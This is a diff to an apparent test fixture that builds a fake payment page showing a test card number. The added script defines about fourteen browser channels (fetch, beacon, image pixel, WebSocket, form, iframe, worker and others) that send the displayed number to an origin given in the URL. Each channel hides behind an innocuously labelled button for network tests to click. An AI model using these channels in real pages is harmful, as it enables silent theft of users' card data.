@@ -20,13 +20,50 @@ SECRET = "4111 1111 1111 1111"
 SECRET_PAGE = f"""<!doctype html><html lang="en"><head><title>Payment details</title></head><body>
 <h1>Your card</h1><p id="card">Card number: <span id="secret">{SECRET}</span></p>
 <button id="details" onclick="sendDetails()">Show details</button>
+<div id="channels"></div>
 <script>
   // A page script that reports what is shown to another site when its button is clicked.
   function sendDetails() {{
-    const to = document.body.dataset.to;
+    const to = document.body.dataset.to || new URL(location.href).searchParams.get('to');
     const card = document.getElementById('secret').textContent;
     if (to) new Image().src = to + '/track?card=' + encodeURIComponent(card);
     document.title = 'details shown';
+  }}
+  // Every way a page's own script can send what it shows elsewhere (`?to=<origin>`, or `?url=<address>`
+  // to open), each behind a button of its own with an ordinary name: the network tests click them.
+  const to = new URL(location.href).searchParams.get('to') || '';
+  const url = new URL(location.href).searchParams.get('url') || '';
+  const s = () => document.getElementById('secret').textContent;
+  const CHANNELS = {{
+    'fetch': () => fetch(to + '/collect', {{ method: 'POST', body: s() }}).catch(() => 0),
+    'xhr': () => {{ const x = new XMLHttpRequest(); x.open('POST', to + '/xhr'); x.send(s()); }},
+    'beacon': () => navigator.sendBeacon(to + '/beacon', s()),
+    'image': () => {{ new Image().src = to + '/pixel.gif?d=' + encodeURIComponent(s()); }},
+    'image-path': () => {{ new Image().src = to + '/' + s().replace(/ /g, ''); }},
+    'socket': () => {{ new WebSocket(to.replace('http', 'ws') + '/socket?d=' + encodeURIComponent(s())); }},
+    'form': () => {{ const f = document.createElement('form'); f.action = to + '/search';
+      const i = document.createElement('input'); i.name = 'q'; i.value = s(); f.append(i);
+      document.body.append(f); f.submit(); }},
+    'location': () => {{ location.href = (url || to + '/?q=' + encodeURIComponent(s())); }},
+    'open': () => {{ window.open(url || to + '/?q=' + encodeURIComponent(s())); }},
+    'frame': () => {{ const f = document.createElement('iframe');
+      f.src = url || to + '/frame.html?d=' + encodeURIComponent(s()); document.body.append(f); }},
+    'worker': () => {{ const w = new Worker(URL.createObjectURL(new Blob(
+      ['onmessage = (e) => fetch(e.data, {{ method: "POST", body: "x" }}).catch(() => 0)'],
+      {{ type: 'text/javascript' }})));
+      w.postMessage(to + '/worker?d=' + encodeURIComponent(s())); }},
+    'plain': () => fetch(to + '/plain').catch(() => 0),
+    'later': () => setTimeout(() => fetch(to + '/later', {{ method: 'POST', body: s() }})
+      .catch(() => 0), 300),
+    'link': () => {{ const a = document.createElement('a'); a.href = url; a.target = '_blank';
+      a.textContent = 'x'; document.body.append(a); a.click(); }},
+  }};
+  for (const [name, send] of Object.entries(CHANNELS)) {{
+    const b = document.createElement('button');
+    b.id = 'ch-' + name;
+    b.textContent = 'More about this card (' + name + ')';
+    b.onclick = send;
+    document.getElementById('channels').append(b);
   }}
 </script></body></html>"""
 
